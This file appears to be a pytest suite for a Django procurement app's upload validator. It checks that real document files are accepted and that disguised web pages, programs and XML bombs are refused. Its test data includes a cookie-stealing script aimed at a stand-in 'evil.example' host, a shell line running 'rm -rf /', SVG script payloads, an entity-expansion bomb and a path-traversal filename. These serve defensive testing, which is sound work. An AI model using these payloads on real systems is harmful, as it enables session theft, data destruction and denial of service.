"""Uploads are accepted by what they contain: disguised web pages and programs are refused."""

import io
import re
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.test import override_settings

from innoprocure.core.uploads import UploadValidator, safe_download_headers, validate_upload


def upload(name, content):
    return SimpleUploadedFile(name, content)


def pdf_bytes():
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Market consultation notice")
    return bytes(pdf.output())


def docx_bytes():
    import docx

    document = docx.Document()
    document.add_paragraph("Pre-commercial procurement tender specification")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes():
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Budget"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def odt_bytes():
    from odf.opendocument import OpenDocumentText
    from odf.text import P

    document = OpenDocumentText()
    document.text.addElement(P(text="Innovation partnership"))
    buffer = io.BytesIO()
    document.write(buffer)
    return buffer.getvalue()


def zip_bytes(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


HTML_PAGE = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/'+document.cookie</script>"
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run"
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


@pytest.mark.parametrize(
    ("name", "make", "allowed", "kind"),
    [
        ("notice.pdf", pdf_bytes, ("pdf",), "pdf"),
        ("spec.docx", docx_bytes, ("pdf", "docx"), "docx"),
        ("budget.xlsx", xlsx_bytes, ("xlsx", "csv"), "xlsx"),
        ("partnership.odt", odt_bytes, ("odt", "docx"), "odt"),
        ("table.csv", lambda: "name;country\nVäxjö;SE\n".encode(), ("csv",), "csv"),
        ("notes.txt", lambda: b"Plain notes about a tender\n", ("txt",), "txt"),
        (
            "notice.xml",
            lambda: b"<?xml version='1.0'?><Notice><ID>1</ID></Notice>",
            ("xml",),
            "xml",
        ),
        ("letter.rtf", lambda: b"{\\rtf1\\ansi Hello}", ("rtf", "pdf"), "rtf"),
        (
            "slides.pptx",
            lambda: zip_bytes({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"}),
            ("pptx",),
            "pptx",
        ),
    ],
)
def test_real_files_of_allowed_kinds_are_accepted_and_rewound(name, make, allowed, kind):
    content = make()
    uploaded = upload(name, content)
    assert validate_upload(uploaded, allowed=allowed) == kind
    assert uploaded.read() == content  # rewound: the caller can save it


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", HTML_PAGE),
        ("report.pdf", b"\n\n  <html><head></head><body>Invoice</body></html>"),
        ("report.pdf", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("report.pdf", WINDOWS_PROGRAM),
        ("report.pdf", LINUX_PROGRAM),
        ("report.pdf", b"#!/bin/sh\nrm -rf /\n"),
    ],
)
def test_web_pages_and_programs_renamed_pdf_are_refused(name, content):
    with pytest.raises(ValidationError) as error:
        validate_upload(upload(name, content), allowed=("pdf", "docx", "txt"))
    message = " ".join(error.value.messages)
    assert "cannot be uploaded" in message
    assert "PDF" in message and "Word document (.docx)" in message


def test_html_is_refused_even_when_text_is_allowed():
    with pytest.raises(ValidationError):
        validate_upload(upload("notes.txt", HTML_PAGE), allowed=("txt", "csv"))


def test_xhtml_and_svg_are_not_accepted_as_xml():
    xhtml = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    for content in (xhtml, svg):
        with pytest.raises(ValidationError):
            validate_upload(upload("notice.xml", content), allowed=("xml",))


def test_xml_with_entity_expansion_is_refused():
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    with pytest.raises(ValidationError):
        validate_upload(upload("notice.xml", bomb), allowed=("xml",))


def test_a_plain_zip_is_not_a_word_document():
    with pytest.raises(ValidationError, match="not one of the accepted types"):
        validate_upload(upload("spec.docx", zip_bytes({"readme.txt": "hi"})), allowed=("docx",))


def test_a_docx_is_not_an_odt_and_a_pdf_with_the_wrong_name_is_refused():
    with pytest.raises(ValidationError):
        validate_upload(upload("spec.odt", docx_bytes()), allowed=("odt",))
    with pytest.raises(ValidationError, match=re.escape("ends in “.docx”")):
        validate_upload(upload("spec.docx", pdf_bytes()), allowed=("pdf", "docx"))


def test_binary_data_is_not_text():
    with pytest.raises(ValidationError):
        validate_upload(upload("data.csv", b"a,b\n\x00\x01\x02"), allowed=("csv",))
    with pytest.raises(ValidationError):
        validate_upload(upload("data.csv", "Größe".encode("latin-1")), allowed=("csv",))


def test_csv_may_arrive_as_txt():
    assert validate_upload(upload("table.txt", b"a,b\n1,2\n"), allowed=("csv",)) == "csv"


@override_settings(MAX_UPLOAD_SIZE=1000)
def test_too_large_files_are_refused_with_the_limit():
    with pytest.raises(ValidationError, match="at most 1000"):
        validate_upload(upload("big.txt", b"x" * 1001), allowed=("txt",))


def test_empty_files_are_refused():
    with pytest.raises(ValidationError, match="empty"):
        validate_upload(upload("empty.pdf", b""), allowed=("pdf",))


def test_validator_in_a_form_shows_the_error_by_the_field():
    from django import forms

    class EvidenceForm(forms.Form):
        evidence = forms.FileField(validators=[UploadValidator(allowed=("pdf",))])

    form = EvidenceForm(data={}, files={"evidence": upload("cv.pdf", HTML_PAGE)})
    assert not form.is_valid()
    assert "cannot be uploaded" in form.errors["evidence"][0]
    assert EvidenceForm(data={}, files={"evidence": upload("cv.pdf", pdf_bytes())}).is_valid()


def test_validator_is_comparable_for_migrations():
    assert UploadValidator(allowed=("pdf",)) == UploadValidator(allowed=["pdf"])
    assert UploadValidator(allowed=("pdf",)).deconstruct()[0] == "innoprocure.core.uploads.UploadValidator"


def test_unknown_kind_is_a_programming_error():
    with pytest.raises(ValueError):
        validate_upload(upload("a.pdf", b"%PDF-1.4"), allowed=("exe",))


def test_safe_download_headers():
    response = safe_download_headers(HttpResponse(b"%PDF-1.4"), "../Évaluation report.pdf")
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%C3%89valuation%20report.pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]
